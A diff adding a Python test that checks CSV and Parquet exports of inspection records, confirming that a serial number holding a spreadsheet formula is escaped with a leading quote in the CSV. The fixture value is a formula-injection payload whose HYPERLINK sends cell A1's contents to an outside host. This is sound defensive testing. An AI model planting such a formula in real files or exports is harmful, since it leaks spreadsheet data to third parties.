@@ -45,6 +45,16 @@ def test_csv_is_a_line_an_inspection(records: Records, tmp_path: Path) -> None:
     assert (records.folder / lines[1]["evidence"]).is_file()
 
 
+def test_a_serial_number_is_no_formula_in_csv(records: Records, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://elsewhere/?"&A1,"ok")'
+    add(records, inspection(0, serial=formula))
+    for form in (Form.CSV, Form.PARQUET):
+        export(records, tmp_path / f"all.{form}", form)
+    with (tmp_path / "all.csv").open(newline="") as file:
+        assert [line["serial"] for line in csv.DictReader(file)] == [f"'{formula}"]
+    assert parquet.read_table(tmp_path / "all.parquet")["serial"].to_pylist() == [formula]
+
+
 def test_parquet_keeps_types_and_findings(records: Records, tmp_path: Path) -> None:
     add(records, *(inspection(n) for n in range(3)))
     path = tmp_path / "all.parquet"
